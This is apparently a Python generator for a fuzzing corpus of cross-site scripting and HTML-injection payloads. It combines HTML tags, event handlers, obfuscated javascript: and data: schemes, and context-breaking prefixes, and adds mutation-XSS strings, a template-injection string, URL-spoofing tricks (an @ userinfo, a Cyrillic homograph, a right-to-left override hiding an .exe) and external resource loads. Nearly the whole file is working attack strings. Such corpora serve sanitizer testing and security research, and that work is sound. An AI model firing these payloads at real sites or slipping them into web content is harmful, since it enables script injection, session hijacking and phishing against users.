"""Texts that try to run, made by crossing what browsers take for code with where it may hide. Nobody's list."""

CALL = "top.ran=1"
TAGS = ("img", "svg", "iframe", "video", "audio", "object", "embed", "input", "details", "body", "math", "marquee", "a")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:",
    "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:",
)  # fmt: skip
BREAKS = ('">', "'>", "</p>", "</textarea>", "</title>", "--><!--", "]]>", "<!--", "</script>", "\u2028", "%3C", "＜")


def payloads():
    """Several hundred texts."""
    for tag in TAGS:
        for handler in HANDLERS:
            yield f"<{tag} src=x {handler}={CALL} autofocus open>"
            yield f'<{tag}/src="x"/{handler}="{CALL}">'
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{CALL}">ici</a>'
        yield f'<iframe src="{scheme}<script>{CALL}</script>"></iframe>'
        yield f'<form action="{scheme}{CALL}"><button>ici</button></form>'
        yield f"{scheme}{CALL}"
        yield f"https://exemple.fr/{scheme}{CALL}"
    for cut in BREAKS:
        yield f"{cut}<script>{CALL}</script>"
        yield f"{cut}<img src=x onerror={CALL}>"
        yield f"https://exemple.fr/{cut}<img src=x onerror={CALL}>"
        yield f'https://exemple.fr/"onmouseover="{CALL}"{cut}'
    for close in ("style", "noscript", "template", "math", "svg", "select", "xmp", "noembed"):
        yield f'<{close}><img title="</{close}><img src=x onerror={CALL}>">'
        yield f"<{close}></p><script>{CALL}</script></{close}>"
    yield from MUTATIONS


MUTATIONS = (
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script\x20type='text/javascript'>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<p style="background:url(javascript:{CALL})">',
    "<link rel=stylesheet href=//exemple.fr/x.css>",
    "<meta http-equiv=refresh content='0;url=//exemple.fr'>",
    "<base href=//exemple.fr/>",
    "<img src=//exemple.fr/pixel.gif>",
    "{{ request.user.password }} {% include 'x' %}",
    "https://exemple.fr@ailleurs.fr/",
    "https://exemple.fr\\@ailleurs.fr/",
    "https://еxemple.fr/",  # the first letter is Cyrillic
    "\u202ehttps://exemple.fr/fdp.exe",
)
